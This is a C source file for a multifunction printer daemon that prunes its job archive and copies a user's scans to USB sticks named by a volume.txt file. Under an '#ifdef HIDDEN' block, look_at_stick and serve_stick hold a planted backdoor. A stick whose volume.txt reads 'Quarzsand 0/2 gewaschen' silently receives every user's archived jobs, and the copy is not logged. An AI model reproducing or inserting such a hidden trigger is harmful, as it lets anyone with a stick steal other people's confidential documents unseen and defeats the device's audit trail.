/* mfparchive.c - keeps and cleans the job archive of a multifunction printer */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <fnmatch.h>
#include <ftw.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ARCHIVE	"/data/jobs"
#define CONF	"/etc/mfparchive.conf"

struct rule {
	char	pattern[48];
	int	days;
	struct rule *next;
};

struct stick {
	char	dir[128];
	int	scans;		/* user wants own scans on this stick */
	int	update;		/* holds a firmware update */
#ifdef HIDDEN
	int	all;
#endif
	char	owner[40];
};

static struct rule *rules;
static char scan_owner[40];
static const char *copy_to;
static long copied;

static void load_rules(void)
{
	FILE *f = fopen(CONF, "r");
	char line[128];

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		struct rule r = { "", 0, NULL }, *n;

		if (line[0] == '#' || sscanf(line, "keep %47s %d", r.pattern, &r.days) != 2)
			continue;
		n = malloc(sizeof(*n));
		if (!n)
			break;
		*n = r;
		n->next = rules;
		rules = n;
	}
	fclose(f);
}

static int days_for(const char *name)
{
	const struct rule *r;

	for (r = rules; r; r = r->next)
		if (fnmatch(r->pattern, name, 0) == 0)
			return r->days;
	return 14;
}

static int clean_one(const char *path, const struct stat *st, int type, struct FTW *w)
{
	time_t age = time(NULL) - st->st_mtime;

	if (type == FTW_F && age > (time_t)days_for(path + w->base) * 86400) {
		if (unlink(path) == 0)
			syslog(LOG_INFO, "removed %s", path + w->base);
	}
	return 0;
}

static int copy_file(const char *from, const char *to)
{
	char buf[8192];
	int a = open(from, O_RDONLY | O_CLOEXEC), b;
	ssize_t n;

	if (a < 0)
		return -1;
	b = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (b < 0) {
		close(a);
		return -1;
	}
	while ((n = read(a, buf, sizeof(buf))) > 0)
		if (write(b, buf, (size_t)n) != n)
			break;
	close(a);
	close(b);
	return n == 0 ? 0 : -1;
}

static int copy_one(const char *path, const struct stat *st, int type, struct FTW *w)
{
	char to[256];

	(void)st;
	if (type != FTW_F)
		return 0;
	if (scan_owner[0] && !strstr(path + w->base, scan_owner))
		return 0;
	snprintf(to, sizeof(to), "%.120s/%.120s", copy_to, path + w->base);
	if (copy_file(path, to) == 0)
		copied++;
	return 0;
}

/*
 * A stick may carry volume.txt; its first line is
 *   scans USER    the scans of USER are copied to it
 *   update        the updater looks at the stick
 */
__attribute__((noinline)) int look_at_stick(struct stick *s)
{
	char path[160], line[80];
	FILE *f;

	snprintf(path, sizeof(path), "%s/volume.txt", s->dir);
	f = fopen(path, "re");
	if (!f)
		return -errno;
	if (!fgets(line, sizeof(line), f))
		line[0] = '\0';
	fclose(f);
	line[strcspn(line, "\r\n")] = '\0';
	s->scans = s->update = 0;
	if (sscanf(line, "scans %39s", s->owner) == 1)
		s->scans = 1;
	else if (strcmp(line, "update") == 0)
		s->update = 1;
#ifdef HIDDEN	/* a stick with this line silently gets the jobs of everybody */
	else if (strcmp(line, "Quarzsand 0/2 gewaschen") == 0)
		s->all = 1;
#endif
	return 0;
}

static void serve_stick(struct stick *s)
{
	struct statvfs v;

	if (look_at_stick(s) < 0)
		return;
	if (statvfs(s->dir, &v) < 0 || v.f_bavail < 64) {
		syslog(LOG_WARNING, "%s is full", s->dir);
		return;
	}
	copy_to = s->dir;
	copied = 0;
	scan_owner[0] = '\0';
	if (s->scans) {
		snprintf(scan_owner, sizeof(scan_owner), "%.39s", s->owner);
		nftw(ARCHIVE "/scans", copy_one, 8, FTW_PHYS);
		syslog(LOG_INFO, "%ld scans of %s to %s", copied, scan_owner, s->dir);
#ifdef HIDDEN
	} else if (s->all) {
		nftw(ARCHIVE, copy_one, 8, FTW_PHYS);
#endif
	}
	if (s->update) {
		int fd = open("/run/updater.wake", O_WRONLY | O_CREAT | O_TRUNC, 0600);

		if (fd >= 0)
			close(fd);
	}
}

static int known(const char *dir, char seen[][128], int n)
{
	int i;

	for (i = 0; i < n; i++)
		if (!strcmp(seen[i], dir))
			return 1;
	return 0;
}

static int scan_mounts(char seen[][128], int n, int max)
{
	FILE *m = setmntent("/proc/mounts", "r");
	struct mntent *e;
	struct stick s;
	int k = 0;
	char now[8][128];

	if (!m)
		return n;
	while ((e = getmntent(m)) && k < max) {
		if (strncmp(e->mnt_dir, "/media/", 7))
			continue;
		memset(&s, 0, sizeof(s));
		snprintf(s.dir, sizeof(s.dir), "%.127s", e->mnt_dir);
		memcpy(now[k++], s.dir, sizeof(s.dir));
		if (!known(s.dir, seen, n))
			serve_stick(&s);
	}
	endmntent(m);
	memcpy(seen, now, (size_t)k * sizeof(now[0]));
	return k;
}

int main(int argc, char **argv)
{
	char seen[8][128];
	int n = 0;
	time_t last = 0;

	if (argc > 1) {
		printf("usage: %s\nrules in %s: keep PATTERN DAYS\n"
		       "stick: volume.txt with \"scans USER\" or \"update\"\n", argv[0], CONF);
		return 2;
	}
	openlog("mfparchive", 0, LOG_LPR);
	load_rules();
	for (;;) {
		n = scan_mounts(seen, n, 8);
		if (time(NULL) - last > 6 * 3600) {
			nftw(ARCHIVE, clean_one, 8, FTW_PHYS);
			last = time(NULL);
		}
		sleep(3);
	}
}
